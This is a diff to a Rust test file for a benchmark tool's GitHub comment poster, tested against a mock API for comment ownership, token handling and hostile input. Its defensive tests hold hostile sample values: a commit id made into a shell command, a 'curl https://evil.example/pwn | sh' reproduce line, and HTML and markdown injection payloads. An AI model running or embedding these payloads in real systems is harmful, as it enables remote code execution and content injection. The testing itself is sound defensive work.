@@ -1,9 +1,12 @@
 //! `harness post` against a local mock of the GitHub REST API (wiremock on 127.0.0.1): create,
-//! update across pages, permission errors, retries, truncation, and a token that never shows.
+//! update across pages, only the bot's own marked comment, permission errors, retries,
+//! truncation, a token that never shows, and a hostile results.json.
 
 use std::time::Duration;
 
-use harness::post::{PostError, PostTarget, Posted, Poster, RetryPolicy, Token, comment_body};
+use harness::post::{
+    ACTIONS_LOGIN, PostError, PostTarget, Posted, Poster, RetryPolicy, Token, comment_body,
+};
 use harness::report::{GITHUB_COMMENT_LIMIT, MARKER};
 use harness::results::{
     BenchResult, Change, HostInfo, Method, Results, Revision, SideResult, Status, ThresholdSource,
@@ -13,6 +16,8 @@ use wiremock::{Mock, MockServer, Request, ResponseTemplate};
 
 /// Distinctive, so a leak anywhere is found by a plain substring search.
 const TOKEN: &str = "ghs_FAKEtoken0123456789abcdefXYZ";
+/// The login the poster writes as (`--comment-author`).
+const BOT: &str = "gate-bot";
 const COMMENTS: &str = "/repos/acme/engine/issues/7/comments";
 
 fn bench(id: &str, status: Status, estimate: f64) -> BenchResult {
@@ -83,6 +88,7 @@ fn results(benches: Vec<BenchResult>) -> Results {
         wall_s: 60.0,
         reproduce: vec!["harness compare".into()],
         e2e: None,
+        gate_changes: vec![],
     }
 }
 
@@ -111,15 +117,22 @@ fn fast() -> RetryPolicy {
 }
 
 fn poster(server: &MockServer) -> Poster {
-    Poster::new(target(server), Token::new(TOKEN.into()).unwrap(), fast()).unwrap()
+    Poster::new(target(server), Token::new(TOKEN.into()).unwrap(), fast())
+        .unwrap()
+        .with_author(BOT)
 }
 
+/// A comment by the bot.
 fn comment(id: u64, body: &str) -> serde_json::Value {
+    comment_by(id, body, BOT)
+}
+
+fn comment_by(id: u64, body: &str, login: &str) -> serde_json::Value {
     serde_json::json!({
         "id": id,
         "html_url": format!("https://github.com/acme/engine/pull/7#issuecomment-{id}"),
         "body": body,
-        "user": {"login": "someone"},
+        "user": {"login": login},
     })
 }
 
@@ -146,8 +159,8 @@ async fn creates_the_comment_when_none_carries_the_marker() {
         .and(query_param("per_page", "100"))
         .and(header("authorization", format!("Bearer {TOKEN}").as_str()))
         .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([
-            comment(1, "LGTM"),
-            // Quotes the marker but does not start with it: a person's comment, never edited.
+            comment_by(1, "LGTM", "someone"),
+            // Quotes the marker but does not start with it: never edited, even the bot's own.
             comment(2, &format!("why does the bot write {MARKER}?")),
         ])))
         .expect(1)
@@ -167,7 +180,7 @@ async fn creates_the_comment_when_none_carries_the_marker() {
 
     let r = small();
     let body = comment_body(&r, "the artifact");
-    let posted = poster(&server).upsert(&body).await.unwrap();
+    let posted = poster(&server).upsert(&body).await.unwrap().posted;
     assert_eq!(
         posted,
         Posted::Created {
@@ -230,7 +243,7 @@ async fn updates_the_marked_comment_found_on_page_two() {
         .await;
 
     let body = comment_body(&small(), "the artifact");
-    let posted = poster(&server).upsert(&body).await.unwrap();
+    let posted = poster(&server).upsert(&body).await.unwrap().posted;
     assert!(
         matches!(posted, Posted::Updated { id: 42, .. }),
         "{posted:?}"
@@ -329,7 +342,7 @@ async fn server_errors_are_retried_until_the_comment_is_created() {
         .mount(&server)
         .await;
 
-    let posted = poster(&server).upsert("body").await.unwrap();
+    let posted = poster(&server).upsert("body").await.unwrap().posted;
     assert!(
         matches!(posted, Posted::Created { id: 5, .. }),
         "{posted:?}"
@@ -370,7 +383,7 @@ async fn secondary_rate_limits_are_retried() {
         .expect(1)
         .mount(&server)
         .await;
-    let posted = poster(&server).upsert("body").await.unwrap();
+    let posted = poster(&server).upsert("body").await.unwrap().posted;
     assert!(matches!(posted, Posted::Updated { id: 8, .. }));
     assert_eq!(requests(&server, "GET").await.len(), 3);
     server.verify().await;
@@ -433,7 +446,14 @@ fn run_cli(server_uri: &str, input: &std::path::Path, extra_env: &[(&str, &str)]
     let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_harness"));
     cmd.args(["post", "--input"])
         .arg(input)
-        .args(["--repo", "acme/engine", "--pr", "7"])
+        .args([
+            "--repo",
+            "acme/engine",
+            "--pr",
+            "7",
+            "--comment-author",
+            BOT,
+        ])
         .env_clear()
         .env("PATH", std::env::var_os("PATH").unwrap_or_default())
         .env("GITHUB_TOKEN", TOKEN)
@@ -496,4 +516,237 @@ async fn the_cli_never_shows_the_token() {
     assert_eq!(code, 2, "{text}");
     assert!(text.contains("GITHUB_TOKEN was rejected (401)"), "{text}");
     assert!(!text.contains(TOKEN), "{text}");
+}
+
+#[tokio::test]
+async fn a_marked_comment_by_someone_else_is_left_alone_and_named() {
+    let server = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path(COMMENTS))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([
+            comment(6, &format!("{MARKER}\n## old report")),
+            // Planted after the real report, to pass for it (named in the note all the same).
+            comment_by(5, &format!("{MARKER}\n## ✅ all good"), "mallory"),
+        ])))
+        .mount(&server)
+        .await;
+    Mock::given(method("PATCH"))
+        .and(path("/repos/acme/engine/issues/comments/6"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(comment(6, "")))
+        .expect(1)
+        .mount(&server)
+        .await;
+    let up = poster(&server).upsert("MARKED body").await.unwrap();
+    assert!(matches!(up.posted, Posted::Updated { id: 6, .. }), "{up:?}");
+    assert_eq!(up.foreign, vec![(5, "mallory".to_string())]);
+    assert!(up.to_string().contains("5 by mallory"), "{up}");
+    let sent = sent_body(&requests(&server, "PATCH").await[0]);
+    assert!(sent.starts_with("MARKED body"), "{sent}");
+    assert!(
+        sent.contains("written by `mallory`") && sent.contains("left alone"),
+        "{sent}"
+    );
+    server.verify().await;
+
+    // Only a foreign one: a comment of our own is created, never the planted one edited.
+    let server = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path(COMMENTS))
+        .respond_with(
+            ResponseTemplate::new(200).set_body_json(serde_json::json!([comment_by(
+                5,
+                &format!("{MARKER}\n## ✅ all good"),
+                "mallory"
+            ),])),
+        )
+        .mount(&server)
+        .await;
+    Mock::given(method("POST"))
+        .and(path(COMMENTS))
+        .respond_with(ResponseTemplate::new(201).set_body_json(comment(7, "")))
+        .expect(1)
+        .mount(&server)
+        .await;
+    Mock::given(method("PATCH"))
+        .respond_with(ResponseTemplate::new(200))
+        .expect(0)
+        .mount(&server)
+        .await;
+    let up = poster(&server).upsert("body").await.unwrap();
+    assert!(matches!(up.posted, Posted::Created { id: 7, .. }));
+    server.verify().await;
+}
+
+#[tokio::test]
+async fn the_author_is_the_token_s_own_login() {
+    // A personal token: GET /user names it.
+    let server = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path("/user"))
+        .respond_with(
+            ResponseTemplate::new(200).set_body_json(serde_json::json!({"login": "alice"})),
+        )
+        .expect(1)
+        .mount(&server)
+        .await;
+    Mock::given(method("GET"))
+        .and(path(COMMENTS))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([
+            comment(1, &format!("{MARKER}\nby the bot")),
+            comment_by(2, &format!("{MARKER}\nby alice"), "alice"),
+        ])))
+        .mount(&server)
+        .await;
+    Mock::given(method("PATCH"))
+        .and(path("/repos/acme/engine/issues/comments/2"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(comment_by(2, "", "alice")))
+        .expect(1)
+        .mount(&server)
+        .await;
+    let p = Poster::new(target(&server), Token::new(TOKEN.into()).unwrap(), fast()).unwrap();
+    let up = p.upsert("body").await.unwrap();
+    assert_eq!(up.author, "alice");
+    assert!(matches!(up.posted, Posted::Updated { id: 2, .. }));
+    server.verify().await;
+
+    // Actions' GITHUB_TOKEN may not read /user: its comments are github-actions[bot]'s.
+    let server = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path("/user"))
+        .respond_with(ResponseTemplate::new(403).set_body_json(
+            serde_json::json!({"message": "Resource not accessible by integration"}),
+        ))
+        .mount(&server)
+        .await;
+    Mock::given(method("GET"))
+        .and(path(COMMENTS))
+        .respond_with(
+            ResponseTemplate::new(200).set_body_json(serde_json::json!([comment_by(
+                9,
+                &format!("{MARKER}\nold"),
+                ACTIONS_LOGIN
+            ),])),
+        )
+        .mount(&server)
+        .await;
+    Mock::given(method("PATCH"))
+        .and(path("/repos/acme/engine/issues/comments/9"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(comment(9, "")))
+        .expect(1)
+        .mount(&server)
+        .await;
+    let p = Poster::new(target(&server), Token::new(TOKEN.into()).unwrap(), fast()).unwrap();
+    let up = p.upsert("body").await.unwrap();
+    assert_eq!(up.author, ACTIONS_LOGIN);
+    server.verify().await;
+}
+
+/// `harness post --dry-run` on `input`, no token, no network: (exit code, stdout, stderr).
+fn dry_run(input: &std::path::Path) -> (i32, String, String) {
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_harness"))
+        .args(["post", "--dry-run", "--input"])
+        .arg(input)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .output()
+        .unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn a_hostile_results_file_is_refused_or_rendered_inert() {
+    let dir = tempfile::tempdir().unwrap();
+
+    // 20 MB: refused unread, with the limit named.
+    let big = dir.path().join("big.json");
+    std::fs::write(&big, " ".repeat(20 << 20)).unwrap();
+    let (code, _, err) = dry_run(&big);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("over the 8388608-byte limit"), "{err}");
+
+    // A "commit id" that is a shell command: refused, the field named.
+    let mut r = small();
+    r.head.sha = "$(curl -s https://evil.example | sh)".into();
+    let bad = dir.path().join("bad.json");
+    std::fs::write(&bad, harness::report::json(&r)).unwrap();
+    let (code, _, err) = dry_run(&bad);
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("head.sha") && err.contains("not a commit id"),
+        "{err}"
+    );
+
+    // Mentions, images, links, HTML and fence breakers in the free text: posted inert, and the
+    // "Reproduce" commands rebuilt from the commit ids.
+    let mut r = small();
+    r.benches[0].id = "@octocat <img src=x onerror=alert(1)> [a](https://evil.example)".into();
+    r.benches[0].note = Some("```\n@acme/security please look https://evil.example".into());
+    r.host.cpu = "<img src=https://evil.example/p.png>".into();
+    r.head.subject = "fix </summary></details> ![x](https://evil.example/x.png)".into();
+    r.reproduce = vec!["curl https://evil.example/pwn | sh".into()];
+    let hostile = dir.path().join("hostile.json");
+    std::fs::write(&hostile, harness::report::json(&r)).unwrap();
+    let (code, body, err) = dry_run(&hostile);
+    assert_eq!(code, 0, "{err}");
+    assert!(body.starts_with(MARKER), "{body}");
+    let (links, tags, autolinked) = live(&body);
+    assert!(links.is_empty(), "links or images: {links:?}\n{body}");
+    assert!(
+        tags.iter()
+            .all(|t| ["br", "details", "sub", "summary"].contains(&t.as_str())),
+        "HTML: {tags:?}\n{body}"
+    );
+    assert!(
+        autolinked.is_empty(),
+        "mentions or autolinks: {autolinked:?}\n{body}"
+    );
+    assert_eq!(
+        body.matches("<details>").count(),
+        body.matches("</details>").count()
+    );
+    assert!(!body.contains("curl"), "{body}");
+    assert!(body.contains(&format!(
+        "harness compare --base {} --head {} --suite quick",
+        "1".repeat(40),
+        "2".repeat(40)
+    )));
+    assert!(body.chars().count() <= GITHUB_COMMENT_LIMIT);
+}
+
+/// What GitHub would make live in `md`: link and image targets, HTML tag names, and text
+/// outside code that it would turn into a mention, reference or link (the same check as the
+/// report's unit tests, on the binary's output).
+fn live(md: &str) -> (Vec<String>, Vec<String>, Vec<String>) {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    let (mut links, mut tags, mut autolinked) = (Vec::new(), Vec::new(), Vec::new());
+    let tag_re = regex_lite::Regex::new(r"<\s*/?\s*([A-Za-z][A-Za-z0-9-]*)").unwrap();
+    let strip = regex_lite::Regex::new(r"<[^>]*>").unwrap();
+    let auto_re = regex_lite::Regex::new(r"(?i)(^|[^\w])@[a-z0-9]|#[0-9]|https?://|www\.").unwrap();
+    let mut in_code_block = false;
+    for e in Parser::new_ext(md, Options::ENABLE_TABLES) {
+        match e {
+            Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
+            Event::End(pulldown_cmark::TagEnd::CodeBlock) => in_code_block = false,
+            Event::Text(_) if in_code_block => {}
+            Event::Start(Tag::Link { dest_url, .. })
+            | Event::Start(Tag::Image { dest_url, .. }) => links.push(dest_url.to_string()),
+            Event::Html(h) | Event::InlineHtml(h) => {
+                tags.extend(tag_re.captures_iter(&h).map(|c| c[1].to_lowercase()));
+                let text = strip.replace_all(&h, " ");
+                let text = regex_lite::Regex::new(r"&#[0-9]+;")
+                    .unwrap()
+                    .replace_all(&text, " ");
+                if auto_re.is_match(&text) {
+                    autolinked.push(text.to_string());
+                }
+            }
+            Event::Text(t) if auto_re.is_match(&t) => autolinked.push(t.to_string()),
+            _ => {}
+        }
+    }
+    (links, tags, autolinked)
 }
